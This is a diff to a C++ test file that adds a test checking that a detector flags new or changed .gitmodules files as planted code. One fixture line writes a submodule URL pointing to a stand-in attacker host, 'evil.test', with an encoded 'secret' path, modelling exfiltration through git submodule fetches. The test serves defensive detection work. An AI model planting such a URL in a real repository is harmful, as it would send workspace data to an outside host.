@@ -122,6 +122,19 @@ TEST_F(PlantedCode, HooksUnderCoreHooksPathAreFlagged) {
   EXPECT_EQ(planted_since(before_, snapshot_autorun_entries(ws_, false)), std::vector<std::string>{});
 }
 
+// A submodule's URL is where `git submodule update` connects (with the
+// URL's path, which may carry workspace data): a new or changed
+// .gitmodules at any depth is flagged, unless git metadata writes were
+// approved (git submodule add writes it).
+TEST_F(PlantedCode, ChangedSubmoduleURLsAreFlagged) {
+  write_file(ws_ + "/.gitmodules", "[submodule \"lib\"]\n\tpath = lib\n\turl = https://example.org/lib.git\n");
+  before_ = snapshot_autorun_entries(ws_, true);
+  write_file(ws_ + "/.gitmodules", "[submodule \"lib\"]\n\tpath = lib\n\turl = https://evil.test/c2VjcmV0\n");
+  write_file(ws_ + "/old/.GITMODULES", "[submodule \"x\"]\n\turl = https://evil.test/x\n");
+  EXPECT_EQ(planted(), (std::vector<std::string>{".gitmodules", "old/.GITMODULES"}));
+  EXPECT_EQ(planted_since(before_, snapshot_autorun_entries(ws_, false)), std::vector<std::string>{});
+}
+
 // The other places a hooks path is set: on the section's own line, with
 // "~/", in the user's global config, in the main repository of a
 // worktree whose .git is a file.
